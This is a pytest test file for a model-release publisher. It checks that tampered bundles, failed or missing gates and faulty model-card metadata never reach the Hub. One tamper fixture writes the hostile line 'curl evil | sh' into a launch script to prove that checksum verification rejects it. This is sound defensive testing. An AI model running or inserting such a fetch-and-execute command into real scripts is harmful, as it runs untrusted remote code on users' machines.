"""Nothing unverified reaches the Hub: a tampered bundle, missing or failed gates, a bad card."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from rich.console import Console

from builder import constants
from builder.errors import GatesNotPassed, PublishError, UnverifiedBundle
from builder.publish import PublishRequest, publish
from tests.publish.conftest import CARD, gate_file, make_bundle, write_checksums, public_key


def attempt(bundle: Path, hub, **options) -> None:
    request = PublishRequest.parse(bundle_dir=bundle, repo="qfn/release", public_key=public_key(), yes=True, **options)
    publish(request=request, console=Console(file=io.StringIO()), api_factory=hub, sleep=lambda s: None)


def modify(b: Path) -> None:
    (b / "launch/run_qsa_int8kv.sh").write_text("#!/usr/bin/env bash\ncurl evil | sh\n")


def add_stray(b: Path) -> None:
    (b / "patches/extra.diff").write_text("unlisted\n")


def remove(b: Path) -> None:
    (b / "patches/series").unlink()


def edit_manifest(b: Path) -> None:
    # A forged entry for a file that is not there is still caught.
    path = b / constants.CHECKSUMS_NAME
    path.write_text(path.read_text() + f"{'0' * 64}  patches/ghost.diff\n")


@pytest.mark.parametrize("tamper", [modify, add_stray, remove, edit_manifest])
def test_tampered_bundle_never_reaches_the_hub(bundle, hub, tamper):
    tamper(bundle)
    with pytest.raises(UnverifiedBundle, match="does not match its CHECKSUMS.sha256"):
        attempt(bundle, hub, allow_failed_gates=True)
    assert hub.tokens == [] and hub.api.calls == []


def test_missing_checksums_file_is_refused(bundle, hub):
    (bundle / constants.CHECKSUMS_NAME).unlink()
    with pytest.raises(UnverifiedBundle):
        attempt(bundle, hub)
    assert hub.api.calls == []


@pytest.mark.parametrize(
    ("gates", "named"),
    [
        ({"needle": gate_file("needle", verdict="fail")}, "needle (fail)"),
        ({"kv_pool": None}, "kv_pool (missing)"),
        # A release gate whose file claims it is optional still blocks.
        ({"battery": gate_file("battery", verdict="fail", required=False)}, "battery (fail)"),
        # A gate outside the release list blocks when its evidence says required.
        ({"mtp_acceptance": gate_file("mtp_acceptance", verdict="fail")}, "mtp_acceptance (fail)"),
        ({name: None for name in constants.PUBLISH_REQUIRED_GATES}, "golden_probes (missing)"),
    ],
)
def test_missing_or_failed_gates_never_reach_the_hub(tmp_path, hub, gates, named):
    bundle = make_bundle(tmp_path / "b", gates=gates)
    with pytest.raises(GatesNotPassed, match=named.replace("(", r"\(").replace(")", r"\)")) as info:
        attempt(bundle, hub)
    assert "--allow-failed-gates" in info.value.hint
    assert hub.tokens == [] and hub.api.calls == []


def test_an_optional_gate_that_failed_does_not_block(tmp_path, hub):
    bundle = make_bundle(tmp_path / "b", gates={"mtp_acceptance": gate_file("mtp_acceptance", verdict="fail", required=False)})
    attempt(bundle, hub)
    assert "create_commit" in hub.api.methods


def test_unreadable_gate_evidence_is_refused_even_when_failed_gates_are_allowed(tmp_path, hub):
    bundle = make_bundle(tmp_path / "b", gates={"needle": {"gate": "needle", "verdict": "maybe"}})
    with pytest.raises(UnverifiedBundle, match="gate evidence is unreadable"):
        attempt(bundle, hub, allow_failed_gates=True)
    assert hub.api.calls == []


@pytest.mark.parametrize(
    ("card", "message"),
    [
        (CARD.replace("library_name: vllm\n", ""), "lacks library_name"),
        (CARD.replace("library_name: vllm", "library_name: transformers"), "expected 'vllm'"),
        (CARD.replace("license: apache-2.0\n", ""), "lacks license"),
        (CARD.replace("tags:\n", "tags: [unclosed\n"), "does not parse"),
        ("---\n- not a mapping\n---\n# card\n", "does not parse"),
    ],
)
def test_model_card_metadata_is_checked_locally(tmp_path, hub, card, message):
    bundle = make_bundle(tmp_path / "b", card=card)
    with pytest.raises(UnverifiedBundle, match=message):
        attempt(bundle, hub)
    assert hub.api.calls == []


def test_bundle_manifest_must_be_valid(bundle, hub):
    (bundle / constants.BUNDLE_MANIFEST_NAME).write_text(json.dumps({"target": "gb10"}))
    write_checksums(bundle)
    with pytest.raises(UnverifiedBundle, match="not a valid bundle manifest"):
        attempt(bundle, hub)
    assert hub.api.calls == []


@pytest.mark.parametrize(("field", "value", "option"), [("repo", "no-slash", "--repo"), ("repo", "a/b/c", "--repo"), ("revision", "", "--revision")])
def test_bad_options_name_the_option(bundle, field, value, option):
    fields = {"bundle_dir": bundle, "repo": "qfn/release", field: value}
    with pytest.raises(PublishError, match=f"^{option}"):
        PublishRequest.parse(**fields)
